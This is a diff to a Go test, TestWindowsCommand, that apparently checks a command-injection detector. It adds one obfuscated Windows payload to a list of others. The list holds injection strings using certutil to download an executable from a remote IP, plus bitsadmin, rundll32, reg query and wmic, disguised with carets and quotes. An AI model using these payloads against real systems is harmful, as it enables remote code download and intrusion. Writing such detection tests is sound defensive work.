@@ -23,6 +23,7 @@ func TestWindowsCommand(t *testing.T) {
 		`127.0.0.1 & ^cer^t^u^til=-urlcache -f http://198.51.100.7/a a.exe&`,
 		`127.0.0.1|call %SystemRoot%\bitsadmin`,
 		`127.0.0.1 & echo certutil|cmd`,
+		`127.0.0.1&(echo w""mic os get|cmd)`,
 		`127.0.0.1&rundll32 a.dll,b`,
 		`127.0.0.1|^reg=query HKLM 2>&1`,
 		`127.0.0.1"|if defined os \windows\.\i^pconfig /all&`,
